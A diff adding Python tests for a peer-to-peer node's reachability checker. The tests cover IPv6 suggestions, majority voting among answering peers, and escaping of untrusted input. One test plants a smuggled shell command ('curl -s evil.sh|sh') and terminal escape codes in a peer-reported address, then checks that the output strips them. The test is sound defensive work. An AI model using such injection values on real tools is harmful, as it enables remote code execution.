@@ -89,6 +89,41 @@ def test_with_no_dial_back_answer_reachability_is_unknown_and_said_so():
     assert "no peer to ask" in reach_checks([], LISTENING, use_relay=True)[1].found
 
 
+def test_a_peers_made_up_address_and_escapes_never_reach_the_suggested_command_or_the_terminal():
+    evil = Reach("QmBoot", 4001, observed="/ip4/1.2.3.4\"]'; curl -s evil.sh|sh; echo '/tcp/4001", dialed="",
+                 reachable=False, why="\x1b[32mok\x1b[0m")
+    lines = [render(c) for c in reach_checks([evil], LISTENING, use_relay=False, fixed_port=True)]
+    assert not any("curl" in line or "\x1b" in line for line in lines), lines
+    assert lines[1].startswith("warn  reachable  unknown: no peer answered") and "?[32mok?[0m" in lines[1]
+    assert "\x1b" not in render(Check("reachable", "warn", "\x1b[2Jx", "\x1b]0;title\x07"))
+    # A parseable address is quoted as a shell word, whatever it is.
+    odd = Reach("QmBoot", 4001, "/ip4/203.0.113.9/tcp/4001", "203.0.113.9:4001", False, "refused")
+    fix = reach_checks([odd], LISTENING, use_relay=False, fixed_port=True)[1].fix
+    assert fix.endswith("announce it: --swarm.announce_maddrs '[\"/ip4/203.0.113.9/tcp/4001\"]'")
+
+
+def test_an_ipv6_address_is_suggested_as_ip6():
+    v6 = Reach("QmBoot", 4001, "/ip6/2001:db8::1/tcp/4001", "[2001:db8::1]:4001", True, "")
+    _, reach = reach_checks([v6], LISTENING, use_relay=False, fixed_port=True)
+    assert "dialed [2001:db8::1]:4001" in reach.found
+    assert "--swarm.announce_maddrs '[\"/ip6/2001:db8::1/tcp/4001\"]'" in reach.fix and "/ip4/2001" not in reach.fix
+
+
+def test_the_majority_of_answering_peers_decides_reachability_and_the_line_says_how_many():
+    def seen(peer: str, ok: bool) -> Reach:
+        return Reach(peer, 31338, "/ip4/203.0.113.9/tcp/61002", "203.0.113.9:31338", ok, "" if ok else "connection refused")
+
+    _, one_liar = reach_checks([seen("QmA", False), seen("QmLiar", True), seen("QmB", False)], LISTENING, use_relay=True)
+    assert "not reachable from peer QmA (2 of 3 peer(s) that answered agree)" in one_liar.found
+    _, most = reach_checks([seen("QmA", True), seen("QmB", True), seen("QmC", False)], LISTENING, use_relay=True)
+    assert "is reachable: peer QmA" in most.found and "(2 of 3 peer(s) that answered agree)" in most.found
+    _, tie = reach_checks([seen("QmA", True), seen("QmB", False)], LISTENING, use_relay=True)
+    assert "not reachable from peer QmB (1 of 2" in tie.found  # a tie asks the user to check
+    unanswered = Reach("QmGone", 31338, why="no answer")
+    _, partial = reach_checks([unanswered, seen("QmA", True)], LISTENING, use_relay=True)
+    assert "(1 of 1 peer(s) that answered agree)" in partial.found
+
+
 def test_the_clock_line_reads_the_median_of_peers_and_grades_it_by_the_round():
     near = [("a", 100.1, 100.0), ("b", 200.0, 200.1), ("c", 300.05, 300.0)]
     c, off = clock_check(near, 3, round_seconds=5.0, uncertainty=0.6, window=6)
